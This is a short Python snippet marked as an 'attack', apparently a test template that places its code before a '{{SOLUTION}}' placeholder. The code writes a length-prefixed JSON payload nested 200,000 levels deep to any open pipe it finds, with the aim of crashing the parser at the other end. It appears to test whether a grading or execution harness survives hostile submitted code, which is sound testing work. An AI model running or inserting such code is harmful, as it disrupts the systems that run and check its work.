# >>> attack
import os
import stat
import struct
import sys

payload = b"[" * 200000 + b"]" * 200000     # nests deeper than any JSON parser's recursion
for fd in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode) and os.get_blocking(fd) is not None:
            os.write(fd, struct.pack(">I", len(payload)) + payload)
    except OSError:
        pass
# <<< attack
{{SOLUTION}}
